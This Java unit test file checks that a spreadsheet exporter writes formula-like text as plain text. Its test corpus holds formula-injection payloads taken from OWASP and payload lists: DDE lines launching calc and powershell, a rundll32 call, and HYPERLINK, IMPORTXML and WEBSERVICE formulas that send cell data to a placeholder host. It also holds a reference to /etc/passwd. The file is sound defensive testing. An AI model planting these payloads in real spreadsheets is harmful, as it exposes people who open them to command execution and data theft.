package styloid.workbook;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.TreeSet;
import java.util.zip.ZipEntry;
import java.util.zip.ZipFile;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.util.CellReference;
import org.apache.poi.xssf.usermodel.XSSFCell;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import styloid.model.Digit;
import styloid.model.Message;
import styloid.model.Side;
import styloid.model.Text;
import styloid.spi.Progress;
import styloid.spi.Sheet;

/**
 * Text a spreadsheet would run stays text. The corpus combines the starters of the OWASP page on
 * CSV injection (= + - @ tab CR LF and their full-width forms) with commands as published there and
 * in common payload lists, harmless addresses put in.
 */
class InjectionTest {
  private static final List<String> STARTERS =
      List.of(
          "=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\uFF1D", "\uFF0B", "\uFF0D", "\uFF20",
          "\"=", "'=", ";=", "=-", "@@");

  private static final List<String> COMMANDS =
      List.of(
          "1+1",
          "1+1\";=1+1",
          "cmd|' /C calc'!A0",
          "SUM(1+1)*cmd|' /C calc'!A0",
          "rundll32|'URL.dll,OpenURL calc.exe'!A",
          "HYPERLINK(\"http://example.invalid/?x=\"&A1,\"click\")",
          "IMPORTXML(CONCAT(\"http://example.invalid/?\",A1),\"//a\")",
          "WEBSERVICE(\"http://example.invalid/\")",
          "DDE(\"cmd\";\"/C calc\";\"x\")",
          "IMAGE(\"http://example.invalid/a.png\")",
          "INDIRECT(\"A1\")",
          "'file:///etc/passwd'#$passwd.A1",
          "cmd|'/c powershell'!_xlbgnm.A1",
          "2+5+cmd|' /C calc'!A0\r\n=1+1");

  private static final List<String> OTHERS =
      List.of(
          "_x003D_1+1",
          "\u05d3\u05d5\u05e8\u05d5\u05df",
          "\u202e=1+1",
          "\ud83d\udc4b\ud83c\udffd wave",
          "\u0001\u0002\u001f\u007f",
          "<c t=\"s\"><f>1+1</f></c>",
          "]]>",
          "&amp;&#61;1+1",
          " leading and trailing ",
          "line\nbreaks\r\nof\rall kinds",
          "0000123",
          "1e5",
          "TRUE",
          "2026-01-01",
          "#REF!");

  @TempDir Path folder;

  static List<String> corpus() {
    ArrayList<String> corpus = new ArrayList<>(OTHERS);
    for (String starter : STARTERS) {
      for (String command : COMMANDS) {
        corpus.add(starter + command);
      }
    }
    return corpus;
  }

  /** Each text in a cell with a name, in one without, as a head and as a paragraph. */
  private static Sample sample() {
    Sample sample = Sample.empty();
    ArrayList<List<Sheet.Cell>> rows = new ArrayList<>();
    for (String text : corpus()) {
      Message words = Message.verbatim(text);
      String name = "sample__text__" + rows.size();
      rows.add(
          List.of(
              new Sheet.Words(words, Optional.of(name)), new Sheet.Words(words, Optional.empty())));
    }
    Message evil = Message.verbatim("=cmd|' /C calc'!A0");
    List<Sheet.Column> columns = List.of(new Sheet.Column(evil, 30), new Sheet.Column(evil, 30));
    Sheet.Block table = new Sheet.Table(evil, columns, rows);
    Sheet.Block paragraph = new Sheet.Paragraph(evil, Sheet.Role.TEXT);
    sample.moreSheets.add(new Sheet("evil", evil, List.of(table, paragraph)));
    sample.name = "=HYPERLINK(\"http://example.invalid\")";
    sample.record = "-000417";
    sample.diagnosis = "@SUM(1+1)\u0007";
    sample.record("remark", Side.UNSIDED, Digit.NONE, 1, new Text("+1+cmd|' /C calc'!A0"));
    return sample;
  }

  private Path written() throws Exception {
    Path file = folder.resolve("evil.xlsx");
    new WorkbookExporter().write(sample().report(), file, Progress.none());
    return file;
  }

  @Test
  void corpusHasAtLeastTwoHundredDifferentTexts() {
    Set<String> different = new TreeSet<>(corpus());
    assertEquals(corpus().size(), different.size());
    assertTrue(different.size() >= 200, different.size() + " texts");
  }

  @Test
  void everyTextIsReadAsTheSameTextAndNothingAsAFormula() throws Exception {
    try (XSSFWorkbook workbook = new XSSFWorkbook(Files.newInputStream(written()))) {
      int seen = 0;
      for (String text : corpus()) {
        String name = "sample__text__" + seen++;
        XSSFCell cell = cell(workbook, name);
        assertEquals(CellType.STRING, cell.getCellType(), text);
        assertEquals(text, cell.getStringCellValue());
        boolean quoted = cell.getCellStyle().getQuotePrefixed();
        assertEquals(SafeText.startsLikeFormula(text), quoted, text);
      }
      workbook
          .iterator()
          .forEachRemaining(
              sheet ->
                  sheet.forEach(
                      row ->
                          row.forEach(
                              c -> assertTrue(c.getCellType() != CellType.FORMULA, address(c)))));
    }
  }

  private static String address(Cell cell) {
    return cell.getSheet().getSheetName() + " " + cell.getAddress() + " is a formula";
  }

  private static XSSFCell cell(XSSFWorkbook workbook, String name) {
    CellReference at = new CellReference(workbook.getName(name).getRefersToFormula());
    return workbook.getSheet(at.getSheetName()).getRow(at.getRow()).getCell(at.getCol());
  }

  @Test
  void packageHoldsNoFormulaLinkOrConnectionAtAll() throws Exception {
    try (ZipFile zip = new ZipFile(written().toFile())) {
      for (ZipEntry entry : Collections.list(zip.entries())) {
        String text = new String(zip.getInputStream(entry).readAllBytes(), StandardCharsets.UTF_8);
        assertTrue(!text.contains("<f>") && !text.contains("<f "), entry.getName());
        assertTrue(!text.contains("TargetMode=\"External\""), entry.getName());
        assertTrue(!entry.getName().matches(".*(externalLink|connections|vba).*"), entry.getName());
      }
    }
  }

  @Test
  void libreOfficeReadsTheSameTextsAndNoFormula() throws Exception {
    Path file = written();
    Path again = Office.in(folder).calculated(file);
    try (InputStream before = Files.newInputStream(file);
        InputStream after = Files.newInputStream(again)) {
      PackageReader.ReadBook ours = PackageReader.read(before);
      PackageReader.ReadBook theirs = PackageReader.read(after);
      ArrayList<String> changed = new ArrayList<>();
      for (int i = 0; i < ours.sheets().size(); i++) {
        for (Map.Entry<String, PackageReader.ReadCell> cell :
            ours.sheets().get(i).cells().entrySet()) {
          PackageReader.ReadCell other = theirs.sheets().get(i).cells().get(cell.getKey());
          String value = cell.getValue().value();
          boolean text = cell.getValue().type().equals("s");
          if (text
              && (!other.formula().isEmpty()
                  || !other.type().equals("s")
                  || !plain(other.value()).equals(plain(value)))) {
            changed.add(cell.getKey() + ": " + cell.getValue() + " became " + other);
          }
        }
      }
      assertEquals(List.of(), changed);
    }
  }

  /** LibreOffice keeps one kind of line break and has no characters below the blank. */
  private static String plain(String text) {
    return text.replace("\r\n", "\n")
        .replace('\r', '\n')
        .replaceAll("[\u0000-\u0008\u000b-\u001f]", "");
  }
}
